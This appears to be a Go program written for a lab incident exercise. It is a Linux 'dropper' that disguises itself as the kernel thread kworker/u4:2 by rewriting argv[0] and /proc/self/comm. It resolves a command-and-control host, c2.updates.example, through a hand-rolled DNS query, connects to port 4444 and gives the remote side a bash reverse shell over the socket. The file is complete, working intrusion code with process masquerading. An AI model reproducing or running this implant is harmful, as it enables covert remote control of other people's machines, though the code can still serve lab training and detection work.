//go:build linux

// Command dropper is the intruder's program in the lab's incident: it takes
// a kernel thread's name, finds its master by name, and gives it a shell. It
// makes system calls directly so that it stays small.
package main

import (
	"encoding/binary"
	"errors"
	"os"
	"syscall"
)

const (
	disguise = "kworker/u4:2"
	master   = "c2.updates.example"
	port     = 4444
)

func main() {
	if os.Args[0] != "["+disguise+"]" {
		// As bash's exec -a would: the command line of a kernel thread is
		// shown in brackets by ps, so that is what it shows of us.
		_ = syscall.Exec("/proc/self/exe", []string{"[" + disguise + "]"}, os.Environ())
		os.Exit(1)
	}
	if err := os.WriteFile("/proc/self/comm", []byte(disguise), 0); err != nil {
		os.Exit(1)
	}
	if err := callHome(); err != nil {
		os.Exit(1)
	}
}

func callHome() error {
	address, err := resolve([4]byte{10, 9, 9, 2}, master)
	if err != nil {
		return err
	}
	fd, err := syscall.Socket(syscall.AF_INET, syscall.SOCK_STREAM, 0)
	if err != nil {
		return err
	}
	if err := syscall.Connect(fd, &syscall.SockaddrInet4{Port: port, Addr: address}); err != nil {
		return err
	}
	s := uintptr(fd)
	pid, err := syscall.ForkExec("/bin/bash", []string{"bash"}, &syscall.ProcAttr{
		Dir: "/", Env: []string{"PATH=/usr/sbin:/usr/bin:/sbin:/bin", "HOME=/root"}, Files: []uintptr{s, s, s},
	})
	if err != nil {
		return err
	}
	_, err = syscall.Wait4(pid, nil, 0, nil)
	return err
}

// resolve asks server for name's address: one question, and of the answer
// the last four bytes, which is where this zone's server puts an A record.
func resolve(server [4]byte, name string) (address [4]byte, err error) {
	query := []byte{0x1d, 0x05, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0}
	label := len(query)
	query = append(query, 0)
	for i := range len(name) {
		if name[i] == '.' {
			label = len(query)
			query = append(query, 0)
			continue
		}
		query = append(query, name[i])
		query[label]++
	}
	query = append(query, 0, 0, 1, 0, 1)
	fd, err := syscall.Socket(syscall.AF_INET, syscall.SOCK_DGRAM, 0)
	if err != nil {
		return address, err
	}
	defer syscall.Close(fd)
	if err := syscall.Connect(fd, &syscall.SockaddrInet4{Port: 53, Addr: server}); err != nil {
		return address, err
	}
	if _, err := syscall.Write(fd, query); err != nil {
		return address, err
	}
	reply := make([]byte, 512)
	n, err := syscall.Read(fd, reply)
	if err != nil {
		return address, err
	}
	if n < len(query)+16 || binary.BigEndian.Uint16(reply[6:]) != 1 {
		return address, errors.New("no answer")
	}
	copy(address[:], reply[n-4:n])
	return address, nil
}
